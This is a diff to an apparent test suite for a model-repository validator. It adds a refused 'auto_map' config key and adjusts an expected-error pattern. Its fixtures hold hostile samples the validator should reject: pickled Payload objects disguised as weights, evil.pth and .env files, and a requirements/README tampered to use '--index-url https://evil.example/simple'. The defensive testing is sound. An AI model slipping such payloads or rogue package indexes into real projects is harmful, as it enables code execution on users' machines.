@@ -209,6 +209,7 @@ REFUSED_KEYS = [
     (IMAGES, "resample", "3"),
     ("processor_config.json", "inner", [{"auto_map": {"A": "visual.Evil"}}]),
     (INDEX, "more", {}),
+    (CONFIG, "auto_map", AUTO),
 ]
 INDEX_URL = "--index-url https://evil.example/simple\n"
 FOREIGN = ["custom_generate/generate.py", "additional_chat_templates/a.jinja", "evil.pth", ".env"]
@@ -218,7 +219,11 @@ PAYLOADS = [
     *(("files", f"not in the manifest: {name}", added(name, CODE)) for name in FOREIGN),
     ("rebuilt", "expected no such file", listed("transformers.py", CODE)),
     ("rebuilt", "loss.py, line 1", listed("loss.py", CODE)),
-    ("rebuilt", "pytorch_model.bin", listed("pytorch_model.bin", pickle.dumps(Payload()))),
+    (
+        "rebuilt",
+        "^pytorch_model.bin is there",
+        listed("pytorch_model.bin", pickle.dumps(Payload())),
+    ),
     ("rebuilt", "LICENSE, line 1", listed("LICENSE", pickle.dumps(Payload(), 2))),
     ("rebuilt", "requirements.txt, line 1", signed(added("requirements.txt", INDEX_URL))),
     ("rebuilt", "README.md", signed(replaced("README.md", "pip install", f"pip {INDEX_URL}"))),
